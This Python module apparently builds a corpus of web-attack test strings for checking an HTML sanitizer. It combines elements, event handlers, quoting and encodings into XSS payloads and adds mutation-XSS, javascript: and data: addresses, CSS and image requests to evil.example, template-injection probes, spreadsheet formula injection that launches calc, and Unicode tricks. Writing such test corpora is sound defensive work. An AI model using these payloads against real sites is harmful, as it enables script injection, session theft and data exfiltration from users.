"""Texts that attack a page: the known ways to make a browser run a script or ask for something, each in many spellings.

Made here from their parts (elements × handlers × quoting × encodings × the places where they stand), so that whoever knows a
new way adds a part and gets all its spellings. Each runs `hacked(1)` or asks for something at evil.example where nothing
stops it: a test holds them to it.
"""

# ruff: noqa: SIM905 (words in a row read better than a list of quoted words)

from __future__ import annotations

import base64
from collections.abc import Callable, Iterator, Mapping
from itertools import product
from urllib.parse import quote

CALL = "hacked(1)"
OUT = "https://evil.example/x"
IMAGE = f"<img src=x onerror={CALL}>"

# ---- elements that run a handler by themselves, and how they may be spelled ------------------------------------------

BY_THEMSELVES = tuple(
    tuple(row.split("|"))
    for row in """\
img|src=x|onerror
img|src=data:,|onerror
image|src=x|onerror
svg||onload
body||onload
body||onpageshow
iframe|src=about:blank|onload
video|src=x|onerror
audio|src=x|onerror
video><source|src=x|onerror
input|autofocus|onfocus
input|type=image src=x|onerror
select|autofocus|onfocus
textarea|autofocus|onfocus
details|open|ontoggle
marquee|loop=1 width=0|onfinish
object|data=x|onerror
script|src=data:,x/|onerror
link|rel=stylesheet href=x|onerror
style||onload
embed|src=x|onload
button|autofocus|onfocus
a|href=# autofocus|onfocus
div|contenteditable autofocus tabindex=1|onfocus
svg><animate|attributeName=x dur=1s|onbegin
svg><set|attributeName=x to=1|onbegin
svg><image|href=x|onerror
video><track default|src=x|onerror
""".splitlines()
)
SPELLINGS = (
    "<{tag} {rest} {handler}={call}>",
    "<{tag}/{rest}/{handler}={call}//",
    '"><{tag} {rest} {handler}="{call}">',
    "'><{tag} {rest} {handler}='{call}'>",
    "<{Tag} {rest} {Handler}={call}>",
    "<{tag}\n{rest}\n{handler}\n=\n{call}\n>",
    "<{tag}\x0c{rest}\x0c{handler}={call}>",
    "</{tag}><{tag} {rest} {handler}={entities}>",
    "<{tag} {rest} {handler}={escaped}>",
    "<<{tag} {rest} {handler}={call} <b>",
)
BY_HAND = """
onclick onmouseover onpointerdown onkeydown onwheel oncopy ondrag onscroll onanimationend ontransitionend onhashchange onresize
onbeforeprint onmessage onpopstate onvisibilitychange
""".split()


def _elements() -> Iterator[str]:
    for (tag, rest, handler), spelling in product(BY_THEMSELVES, SPELLINGS):
        yield spelling.format(
            tag=tag,
            Tag=_mixed(tag),
            rest=rest,
            handler=handler,
            Handler=_mixed(handler),
            call=CALL,
            entities="".join(f"&#{ord(character)};" for character in CALL),
            escaped="\\u0068acked(1)",
        )


def _attributes() -> Iterator[str]:
    for mark, handler in product(('"', "'", "`", ""), BY_HAND):
        yield f"x{mark} {handler}={mark}{CALL}{mark} autofocus x={mark}"
    for mark in ('"', "'", ""):
        yield f"x{mark} autofocus onfocus={CALL} tabindex=1 x={mark}"
        yield f"x{mark} style={mark}animation:x 1s{mark} onanimationstart={mark}{CALL}"
        yield f"x{mark}/onerror={CALL}/src=x "


# ---- the end of what surrounds a text --------------------------------------------------------------------------------

RAW = """
script style title textarea noscript iframe noembed noframes xmp template svg math select option table button blockquote details
""".split()


def _ends() -> Iterator[str]:
    for tag in RAW:
        yield f"</{tag}>{IMAGE}"
    for end in (
        "</script>",
        "</script >",
        "</SCRIPT>",
        "</script\n>",
        "</script/x>",
        "</script\t",
        "<!--</script>",
        "-->",
        "--!>",
        "]]>",
        "?>",
        "%>",
    ):
        yield f"{end}<script>{CALL}</script>"
    yield from (f"<!--<script>{CALL}//", f"<!--{IMAGE}-->", f"<![CDATA[{IMAGE}]]>", f"<?xml {IMAGE}?>", f"<!{IMAGE}")
    yield from (f"<script>{CALL}</script>", f"<script>{CALL}", f"<script/x>{CALL}</script>", f"<sCrIpT>{CALL}</ScRiPt>")
    yield from (f"<scr<script>ipt>{CALL}</scr</script>ipt>", f"<script>{CALL}//<!--", f"<script><!--\n{CALL}\n--></script>")


def _mutations() -> Iterator[str]:
    """Give texts that become dangerous when a page writes down what it parsed and reads it again."""
    for outer, inner in product(("svg", "math"), ("style", "title", "script", "xmp", "noscript", "textarea")):
        yield f'<{outer}><{inner}><a title="</{inner}>{IMAGE}">'
        yield f'<{outer}></p><{inner}><g title="</{inner}>{IMAGE}">'
    for host in ("mtext", "mi", "mo", "mn", "ms", "annotation-xml encoding=text/html"):
        yield f"<math><{host}><table><mglyph><style><!--</style>{IMAGE}-->"
        yield f'<form><math><{host}></form><form><mglyph><style></math>{IMAGE}'  # fmt: skip
    yield f'<noscript><p title="</noscript>{IMAGE}">'
    yield f'<svg><foreignObject><iframe srcdoc="&lt;script&gt;parent.{CALL}&lt;/script&gt;">'
    yield f"<template><style></template>{IMAGE}"
    yield f'<p id="--><svg/onload={CALL}>"><!--'


def _svg() -> Iterator[str]:
    yield f"<svg><script>{CALL}</script></svg>"
    yield f"<svg><script href=data:text/javascript,{CALL} /></svg>"
    yield f"<svg><a xlink:href=javascript:{CALL}><text y=20>x</text></a></svg>"
    yield f"<svg><a><animate attributeName=href values=javascript:{CALL} /><text y=20>x</text></a></svg>"
    yield f"<svg><use href='data:image/svg+xml,<svg id=x onload={CALL} xmlns=&quot;http://www.w3.org/2000/svg&quot; />#x'>"
    yield f"<svg><style>{{x:url('</style>{IMAGE}')}}</style></svg>"
    yield f'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="{CALL}"/>'
    yield f'<!DOCTYPE x [<!ENTITY e "{CALL}">]><svg onload="&e;"/>'


# ---- addresses -------------------------------------------------------------------------------------------------------


def addresses() -> Iterator[str]:
    """Give addresses that run a script when followed, in spellings that a hasty check lets through."""
    yield from (
        f"javascript:{CALL}",
        f"JaVaScRiPt:{CALL}",
        f" javascript:{CALL}",
        f"\x01javascript:{CALL}",
        f"\x1fjavascript:{CALL}",
    )
    yield from (
        f"java\tscript:{CALL}",
        f"java\nscript:{CALL}",
        f"java\rscript:{CALL}",
        f"javascript\n:{CALL}",
        f"\u00a0javascript:{CALL}",
    )
    yield from (f"javascript&colon;{CALL}", f"java&Tab;script:{CALL}", f"java&NewLine;script:{CALL}", f"&#106;avascript:{CALL}")
    yield from (
        f"&#x6A;avascript:{CALL}",
        f"&#0000106avascript:{CALL}",
        f"javascript:{quote(CALL, safe='')}",
        f"javascript://%0a{CALL}",
    )
    yield from (
        f"javascript://evil.example/%0d%0a{CALL}",
        f"javascript:/*-->*/{CALL}",
        f"javascript:void%20{CALL}",
        f"ja\0vascript:{CALL}",
    )
    yield from (f"javaſcript:{CALL}", f"ｊavascript:{CALL}", f"feed:javascript:{CALL}", f"view-source:javascript:{CALL}")
    yield from (f"vbscript:{CALL}", f"livescript:{CALL}", f"data:text/html,<script>{CALL}</script>", f"data:,{IMAGE}")
    yield f"data:text/html;base64,{_base64(f'<script>{CALL}</script>')}"
    yield f"data:text/html;charset=utf-7,+ADw-script+AD4-{CALL}+ADw-/script+AD4-"
    yield f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{CALL}'/>"
    yield from (
        "file:///etc/passwd",
        "//evil.example/x",
        "\\\\evil.example\\x",
        "https:\\evil.example",
        "http:evil.example",
        "blob:x",
    )
    yield from (
        f'https://evil.example/"onclick="{CALL}',
        f"https://evil.example/'onclick='{CALL}",
        f"https://evil.example/>{IMAGE}",
    )
    yield from ("https://evil.example\t/x", "https://evil.example/\nx", "https://[evil", "http://", "https://evil.example/`x`")


HOLDERS = ("<a href={0}>x</a>", '<iframe src="{0}">', "<form action='{0}'><button>", "<button form=x formaction='{0}'>x",
           "<object data='{0}'>", "<embed src='{0}'>", "<area href='{0}'>", "<base href='{0}'>", "<math href='{0}'>x",
           "<meta http-equiv=refresh content='0;url={0}'>", "<svg><a href='{0}'><text>x")  # fmt: skip


def _addresses() -> Iterator[str]:
    yield from addresses()
    for holder, address in product(HOLDERS, (f"javascript:{CALL}", f"java&Tab;script:{CALL}", f"data:text/html,{IMAGE}", OUT)):
        yield holder.format(address)


def _requests() -> Iterator[str]:
    """Give elements and rules that ask for something elsewhere without a script."""
    for place in """
img src|img srcset|video poster|video src|audio src|script src|iframe src|frame src|object data|embed src|input type=image src
|body background|table background|video><track default src|a href=# ping|html manifest|svg><image href|svg><use href
""".split("|"):
        yield f"<{place.strip()}={OUT}>"
    for kind in "stylesheet icon preload prefetch preconnect dns-prefetch modulepreload import manifest".split():
        yield f"<link rel={kind} as=image href={OUT}>"
    for rule in (
        *("@import '{0}'", "@import url({0})", "*{{background:url({0})}}", "*{{list-style:url({0})}}", "*{{content:url({0})}}"),
        *("*{{cursor:url({0}),auto}}", "@font-face{{font-family:x;src:url({0})}}", "*{{border-image:url({0}) 1}}"),
    ):
        yield f"</style><style>{rule.format(OUT)}</style>"
        yield rule.format(OUT)
    yield f"<div style='background:url({OUT})'>x</div>"
    yield f"<svg><filter><feImage href={OUT} /></filter></svg>"


# ---- texts inside scripts, templates, data ---------------------------------------------------------------------------


def _strings() -> Iterator[str]:
    for mark in ("'", '"', "`"):
        yield from (
            f"{mark};{CALL};//",
            f"{mark}+{CALL}+{mark}",
            f"\\{mark};{CALL};//",
            f"{mark}-{CALL}-{mark}",
            f"{mark}]}};{CALL};//",
        )
        yield from (f"{mark},{CALL},{mark}", f"{mark}\n{CALL}\n{mark}", f"{mark}*/{CALL}/*", f"x{mark}}}]}}</script>{IMAGE}")
    yield from (f"${{{CALL}}}", f"\u2028{CALL}\u2029", f"\\\n{CALL}", f"*/{CALL}/*", f"\\x27;{CALL}//", f"\\u0022;{CALL}//")
    yield from (f'{{"__proto__":{{"x":"{CALL}"}}}}', f'"}}],"nodes":[{{"label":"{IMAGE}"}}]', "\\", "\\\\", '\\"', "\\u003c")


def _templates() -> Iterator[str]:
    for begin, end in (
        ("{{", "}}"),
        ("{%", "%}"),
        ("${", "}"),
        ("#{", "}"),
        ("<%=", "%>"),
        ("[[", "]]"),
        ("{{{", "}}}"),
        ("{!", "!}"),
    ):
        yield from (f"{begin} 7*7 {end}", f"{begin}constructor.constructor('{CALL}')(){end}")
    yield from (
        "{{ config }}",
        "{{ ''.__class__.__mro__ }}",
        "{{ self }}",
        "{% raw %}" + IMAGE + "{% endraw %}",
        "{# x #}",
        "{{ data|safe }}",
    )
    yield from ("%s", "%(x)s", "{0}", "{0.__class__}", "{}", "$&", "$1", "\\1")


NAMES = tuple(
    """
__proto__ constructor prototype toString valueOf hasOwnProperty isPrototypeOf toLocaleString __defineGetter__ __defineSetter__
__lookupGetter__ propertyIsEnumerable then length name undefined null NaN true document location window parent
data network strings panel query
""".split()
)
CELLS = (
    '=HYPERLINK("https://evil.example")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+1+1",
    "\t=1+1",
    "＝1+1",
    "|calc",
)
CHARACTERS = (
    "\u202egnp.exe\u202c",
    "\u2066x\u2069",
    "\ud7ff\ue000\ufffd",
    "\ufeff",
    "\u200b",
    "a\u0300" * 40,
    "\x7f\x85",
    "👮🏽\u200d♂️",
    "𠮷",
)

# ---- encodings -------------------------------------------------------------------------------------------------------

ENCODINGS: Mapping[str, Callable[[str], str]] = {
    "decimal": lambda text: "".join(f"&#{ord(character)};" for character in text),
    "decimal, padded, without end": lambda text: "".join(f"&#{ord(character):07d}" for character in text),
    "hexadecimal": lambda text: "".join(f"&#x{ord(character):X};" for character in text),
    "named": lambda text: text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;"),
    "named without end": lambda text: text.replace("<", "&lt").replace(">", "&gt"),
    "twice": lambda text: text.replace("<", "&amp;lt;").replace(">", "&amp;gt;"),
    "in an address": lambda text: quote(text, safe=""),
    "in an address, twice": lambda text: quote(quote(text, safe=""), safe=""),
    "script": lambda text: "".join(f"\\u{ord(character):04x}" for character in text),
    "script, short": lambda text: "".join(f"\\x{ord(character):02x}" for character in text),
    "script, braces": lambda text: "".join(f"\\u{{{ord(character):x}}}" for character in text),
    "script, octal": lambda text: "".join(f"\\{ord(character):o}" for character in text),
    "style": lambda text: "".join(f"\\{ord(character):06x}" for character in text),
    "full width": lambda text: "".join(
        chr(ord(character) + 0xFEE0) if "!" <= character <= "~" else character for character in text
    ),
    "UTF-7": lambda text: text.replace("<", "+ADw-").replace(">", "+AD4-"),
    "with NUL": lambda text: "\0".join(text),
    "base64": lambda text: _base64(text),
}


def _encoded() -> Iterator[str]:
    for encode, text in product(ENCODINGS.values(), (f"<script>{CALL}</script>", IMAGE, f'"><svg onload={CALL}>')):
        yield encode(text)


def _base64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def _mixed(text: str) -> str:
    return "".join(character.upper() if place % 2 else character for place, character in enumerate(text))


CLASSES: Mapping[str, tuple[str, ...]] = {
    "elements": tuple(_elements()),
    "attributes": tuple(_attributes()),
    "ends": tuple(_ends()),
    "mutations": tuple(_mutations()),
    "svg": tuple(_svg()),
    "addresses": tuple(_addresses()),
    "requests": tuple(_requests()),
    "strings": tuple(_strings()),
    "templates": tuple(_templates()),
    "names": NAMES,
    "cells": CELLS,
    "characters": CHARACTERS,
    "encoded": tuple(_encoded()),
}
ATTACKS = tuple(dict.fromkeys(attack for attacks in CLASSES.values() for attack in attacks))


def some(number: int) -> tuple[str, ...]:
    """Return so many attacks, of every class its share and at least one."""
    return tuple(dict.fromkeys(attack for attacks in CLASSES.values() for attack in attacks[:: max(1, len(ATTACKS) // number)]))
